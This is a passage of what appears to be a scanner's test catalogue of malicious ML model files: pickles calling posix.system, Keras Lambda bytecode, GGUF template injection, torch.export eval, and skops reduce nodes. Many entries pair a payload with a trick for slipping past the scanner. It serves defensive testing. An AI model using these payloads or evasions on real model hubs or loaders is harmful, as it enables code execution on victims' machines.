        ("numpy",),
    ),
    _a(
        "torch-legacy-tar-duplicate-member",
        "legacy torch tar with two 'storages' members (torch reads the last)",
        T,
        "A scanner reading the first member sees a harmless pickle.",
        _file("model.tar", torch_legacy_tar_duplicate),
        torch_load_unsafe,
        TORCH,
    ),
    _a(
        "bz2-multi-stream",
        "pickle split across concatenated bz2 streams",
        T,
        "bz2.decompress joins streams; the first stream alone looks truncated.",
        _file("model.pkl.bz2", multi_stream("bz2")),
        unpack_and_pickle_load,
    ),
    _a(
        "xz-multi-stream",
        "pickle split across concatenated xz streams",
        T,
        "lzma.decompress joins streams; the first stream alone looks truncated.",
        _file("model.pkl.xz", multi_stream("xz")),
        unpack_and_pickle_load,
    ),
    _a(
        "gzip-multi-member",
        "pickle split across concatenated gzip members",
        T,
        "gzip.decompress joins members; the first member alone looks truncated.",
        _file("model.pkl.gz", gzip_multi_member),
        unpack_and_pickle_load,
    ),
    # -- archives a loader might unpack --------------------------------------------------------
    *(
        _a(
            f"archive-{kind}-pickle",
            f"pickle inside {kind}",
            T,
            f"A {kind} holding a pickle, unpacked then unpickled.",
            _archive(kind),
            unpack_and_pickle_load,
        )
        for kind in ("gz", "bz2", "xz", "lz4", "zip", "tar", "7z")
    ),
    # -- framework formats ---------------------------------------------------------------------
    _a(
        "accelerate-custom-checkpoint",
        "accelerate custom_checkpoint_0.pkl",
        T,
        "accelerate loads registered objects with weights_only=False.",
        build_accelerate_custom,
        accelerate_load_custom_state,
        ("torch", "accelerate"),
    ),
    _a(
        "hf-auto-map-remote-code",
        "config.json auto_map + planted module",
        T,
        "from_pretrained(trust_remote_code=True) imports the planted module.",
        build_hf_auto_map,
        hf_from_pretrained_remote_code,
        ("transformers",),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "tf-graph-write-file-extra-field",
        "frozen GraphDef with WriteFile and an unknown top-level field",
        T,
        "Protobuf parsers keep fields the schema lacks; the graph still writes a file when "
        "it runs. Named graph.dat it was data (safe).",
        _file("graph.dat", tf_graph_write_file_extra_field),
        tf_run_frozen_graph,
        ("tensorflow",),
    ),
    _a(
        "diffusers-custom-component",
        "model_index.json loading a component from a planted module",
        T,
        "DiffusionPipeline.from_pretrained imports [library, class] for each component; "
        "a library with a module file in the component's folder runs with "
        "trust_remote_code=True. model_index.json was plain JSON (safe).",
        build_diffusers_custom_component,
        diffusers_from_pretrained_remote_code,
        ("diffusers",),
        expected=Verdict.UNKNOWN,
    ),
    # CVE-2024-3660: Keras Lambda layers carry marshalled bytecode.
    _a(
        "keras-lambda-layer",
        ".keras with a Lambda layer (marshal bytecode)",
        "CVE-2024-3660",
        "Built without keras; the natural load needs keras installed.",
        build_keras_lambda,
        keras_load_model,
        ("keras",),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "keras-lambda-config-only",
        ".keras zip holding only config.json (Lambda layer)",
        "CVE-2024-3660",
        "No metadata.json or weights: the archive does not look like Keras by its names, "
        "but load_model builds the Lambda from config.json before it wants weights.",
        keras_lambda_bare(),
        keras_load_model,
        ("keras",),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "keras-lambda-npz-weights",
        ".keras zip with config.json and model.weights.npz",
        "CVE-2024-3660",
        "Keras 3 also reads weights from an npz; no metadata.json.",
        keras_lambda_bare("model.weights.npz"),
        keras_load_model,
        ("keras",),
        expected=Verdict.UNKNOWN,
    ),
    # CVE-2024-34359 (llama-cpp-python): chat template rendered outside a sandbox.
    _a(
        "gguf-chat-template-ssti",
        "GGUF tokenizer.chat_template Jinja SSTI",
        "CVE-2024-34359",
        "Template reaches os.popen through cycler.__init__.__globals__.",
        _file("model.gguf", gguf_ssti),
        gguf_render_chat_template,
        ("jinja2",),
        expected=Verdict.UNKNOWN,
    ),
    # -- third review: transparent zstd (pandas), torch.export programs ------------------------
    _a(
        "pandas-zstd-pickle",
        "pickle compressed with zstd (pandas read_pickle, .zst)",
        T,
        "pandas infers zstd from the extension and unpickles what it decompresses; the "
        "scanner did not know zstd and read the compressed bytes as data.",
        _file("model.pkl.zst", zstd_pickle("plain")),
        pandas_read_pickle,
        ("pandas", "zstandard"),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "pandas-zstd-skippable-frame",
        "zstd stream that starts with a skippable frame",
        T,
        "zstd readers step over skippable frames (magic 0x184D2A5?) before the data frame.",
        _file("model.pkl.zst", zstd_pickle("skippable")),
        pandas_read_pickle,
        ("pandas", "zstandard"),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "pandas-zstd-streamed-frame",
        "zstd frame without a content size (streaming compressor)",
        T,
        "A frame written by a streaming compressor declares no size; readers still inflate it.",
        _file("model.pkl.zst", zstd_pickle("streamed")),
        pandas_read_pickle,
        ("pandas", "zstandard"),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "torch-export-sympy-expr",
        "torch.export .pt2 symbolic size evaluated by sympy.sympify",
        T,
        "torch.export.load parses each expr_str of model.json with sympy.sympify (eval).",
        _file("model.pt2", export_sym_expr("call")),
        torch_export_load,
        TORCH,
    ),
    _a(
        "torch-export-sympy-expr-dunder",
        "torch.export .pt2 sympy expression reaching os through __globals__",
        T,
        "No builtin name: the expression climbs from sympy's Symbol to __import__.",
        _file("model.pt2", export_sym_expr("attr")),
        torch_export_load,
        TORCH,
    ),
    _a(
        "torch-export-sympy-expr-escaped",
        "torch.export .pt2 sympy expression spelled with JSON escapes",
        T,
        "model.json writes __import__ as \\u escapes: a byte search never sees the name.",
        _file("model.pt2", export_sym_expr("escaped")),
        torch_export_load,
        TORCH,
    ),
    _a(
        "torch-export-guards-code",
        "torch.export .pt2 guards_code compiled into the module",
        T,
        "ExportedProgram.module() exec()s guards_code into the forward's input checks.",
        _file("model.pt2", export_guards_code),
        torch_export_load_and_run,
        TORCH,
    ),
    _a(
        "skops-reduce-posix-system",
        "skops ConstructorFromReduceNode calling posix.system",
        "https://skops.readthedocs.io/en/stable/persistence.html",
        "skops refuses untrusted types, but its workflow trusts what get_untrusted_types "
        "lists; the schema was not read, so the archive scanned safe.",
        _file("model.skops", skops_reduce("posix", "system", _sh, nested=False)),
        skops_load_trusting_listed,
        ("skops",),
    ),
    _a(
        "skops-reduce-exec-nested-escaped",
        "skops builtins.exec node inside a list node, __loader__ key escaped",
        "https://skops.readthedocs.io/en/stable/persistence.html",
        "The call node is a list item and its loader key is a JSON escape.",
        _file("model.skops", skops_reduce("builtins", "exec", _pystmt, nested=True)),
        skops_load_trusting_listed,
        ("skops",),
    ),
    _a(
        "joblib-lzma-small-dictionary",
        "lzma alone stream with a 4 KiB dictionary (header 5d 00 10 00 00)",
        T,
        "joblib.load reads any stream starting ]\\x00 as lzma; the scanner wanted ]\\x00\\x00.",
        _file("model.joblib", lzma_alone(dict_size=1 << 12)),
        joblib_load,
        ("joblib",),
    ),
    _a(
        "joblib-lzma-huge-dictionary",
        "lzma alone stream whose header asks for a 1 GiB dictionary",
        T,
        "Over the scanner's decoder memory limit, the stream was judged as plain bytes.",
        _file("model.joblib", lzma_alone(dict_size=1 << 30)),
        joblib_load,
        ("joblib",),
    ),
    _a(
        "pandas-lzma-alone-properties",
        "lzma alone stream with lc=0 (properties byte 0x5a), read as .xz",
        T,
        "lzma.open decodes any alone header; only 0x5d (the default) was recognised.",
        _file("model.pkl.xz", lzma_alone(lc=0, dict_size=1 << 16)),
        pandas_read_pickle,
        ("pandas",),
    ),
    _a(
        "keras-lambda-behind-gzip",
        "Lambda .keras zip appended to a valid gzip stream",
        T,
        "The scanner entered the gzip stream and stopped; zipfile reads the zip at the end.",
        keras_lambda_behind(gzip.compress(b"weights", mtime=0)),
        keras_load_model,
        ("keras",),
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "keras-lambda-behind-pickle",
        "Lambda .keras zip appended to a plain pickle",
        T,
        "A complete pickle first (pickle.load reads only that), then the zip Keras reads.",
        keras_lambda_behind(pickle.dumps({"weights": [0.5, 0.25]}, protocol=4)),
        keras_load_model,
        ("keras",),
        expected=Verdict.UNKNOWN,
    ),
    # -- peers' own test suites (see tests/unit/scan/test_scan_peer_suites.py) -----------------
    # ModelAudit tests/test_nested_pickle_integration.py: a pickle kept as data in a pickle.
    # https://github.com/promptfoo/modelaudit/blob/main/tests/test_nested_pickle_integration.py
    _a(
        "peer-embedded-pickle-bytes",
        "pickle kept as bytes data, unpickled by a second stage",
        T,
        "A state dict whose field holds a pickle calling posix.system; the load itself runs "
        "nothing, the loader of the field does.",
        _pkl(lambda c, d: p4(enc({"step": 3, "extra": _hidden_system(c)}))),
        pickle_load_then_fields,
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "peer-embedded-pickle-base64",
        "pickle kept as base64 text, decoded and unpickled by a second stage",
        T,
        "The same hidden pickle as base64 text (ModelAudit's nested_pickle_base64.pkl).",
        _pkl(lambda c, d: p4(enc({"w": base64.b64encode(_hidden_system(c)).decode()}))),
        pickle_load_then_fields,
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "peer-embedded-pickle-hex",
        "pickle kept as hex text, decoded and unpickled by a second stage",
        T,
        "The same hidden pickle as hex text (ModelAudit's nested_pickle_hex.pkl).",
        _pkl(lambda c, d: p4(enc({"hex_data": _hidden_system(c).hex()}))),
        pickle_load_then_fields,
        expected=Verdict.UNKNOWN,
    ),
)


def attacks_by_id() -> dict[str, Attack]:
    """The catalogue keyed by id."""
    return {a.id: a for a in ATTACKS}


def missing_requirements(attack: Attack) -> list[str]:
    """Packages in ``attack.requires`` that cannot be imported here."""
    import importlib.util

    return [r for r in attack.requires if importlib.util.find_spec(r) is None]


# ---------------------------------------------------------------------------------------------
# Proving samples real: one interpreter, one fork per sample.
# ---------------------------------------------------------------------------------------------


def run_natural_loads(
    jobs: Sequence[tuple[str, Path, Path]],
    *,
    timeout: float = 60.0,
    env: dict[str, str] | None = None,
) -> dict[str, str]:
    """Load each ``(attack_id, sample, canary)`` naturally in a fresh interpreter.

    Returns ``{attack_id: "ran" | "not-run: <reason>"}``. One subprocess imports the heavy
    libraries once, then forks a child per sample, so a payload cannot affect the next one.
    """
    import subprocess

    request = json.dumps([[i, str(s), str(c)] for i, s, c in jobs])
    tests_dir = str(Path(__file__).resolve().parent)
    code = (
        f"import sys; sys.path.insert(0, {tests_dir!r}); import attacks; "
        "attacks._natural_load_main()"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code],
        input=request,
        capture_output=True,
        text=True,
        timeout=timeout * max(1, len(jobs)),
        env={**os.environ, **(env or {})},
        check=False,
    )
    line = next((ln for ln in proc.stdout.splitlines() if ln.startswith("RESULTS ")), None)
    if line is None:
        raise RuntimeError(f"natural-load runner failed:\n{proc.stdout}\n{proc.stderr}")
    results: dict[str, str] = json.loads(line[len("RESULTS ") :])
    return results


def _natural_load_main() -> None:  # pragma: no cover - runs in the subprocess
    jobs = json.loads(sys.stdin.read())
    catalogue = attacks_by_id()
    # Import the heavy libraries once, before forking, so each child starts fast.
    import importlib.util

    for mod in ("numpy", "torch", "joblib"):
        if importlib.util.find_spec(mod) is not None:
            __import__(mod)
    results: dict[str, str] = {}
    for attack_id, sample, canary in jobs:
        results[attack_id] = _load_in_child(catalogue[attack_id], Path(sample), Path(canary))
    sys.stdout.write("RESULTS " + json.dumps(results) + "\n")
    sys.stdout.flush()


def _load_in_child(attack: Attack, sample: Path, canary: Path, timeout: float = 60.0) -> str:
    err_file = sample.parent / f".{sample.name}.natural-load-error"
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:  # child: never returns
        try:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.chdir(sample.parent)
            attack.natural_load(sample)
            err_file.write_text("")
        except BaseException:
            err_file.write_text(traceback.format_exc()[-600:])
        finally:
            os._exit(0)
    deadline = time.monotonic() + timeout
    while True:
        done, _status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        if time.monotonic() > deadline:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
            break
        time.sleep(0.01)
    # Payloads that start a process (Popen, asyncio, pty) may finish just after the load.
    settle = time.monotonic() + 3.0
    while not canary.exists() and time.monotonic() < settle:
        time.sleep(0.02)
    if canary.exists():
        return "ran"
    reason = err_file.read_text() if err_file.exists() else "timeout or crash"
    return "not-run: " + (reason.strip().splitlines()[-1] if reason.strip() else "no error")


# ---------------------------------------------------------------------------------------------
# Variants found by the mutation campaign (scripts/mutate_attacks.py): each scanned safe.
# ---------------------------------------------------------------------------------------------

ATTACKS = (
    *ATTACKS,
    _a(
        "peer-embedded-pickle-base64-lines",
        "pickle kept as MIME base64 (76-column lines), decoded and unpickled by a second stage",
        T,
        "base64.encodebytes breaks the text into lines; b64decode skips the line breaks. The "
        "scanner read only unbroken base64 (safe).",
        _pkl(lambda c, d: p4(enc({"w": base64.encodebytes(_hidden_system(c)).decode()}))),
        pickle_load_then_fields,
        expected=Verdict.UNKNOWN,
    ),
    _a(
        "peer-embedded-pickle-protocol0",
        "protocol-0 pickle (no PROTO) kept as bytes data, unpickled by a second stage",
        T,
        "pickle.dumps(..., protocol=0) starts with GLOBAL, not PROTO; the scanner looked only "
        "for bytes starting with PROTO (safe).",
        _pkl(
            lambda c, d: p4(
                enc(
                    {
                        "step": 3,
                        "extra": bytes(text_global("posix", "system"))
                        + b"(V"
                        + _sh(c).encode()
                        + b"\ntR.",
                    }
                )
            )
        ),
        pickle_load_then_fields,
        expected=Verdict.UNKNOWN,
    ),
)
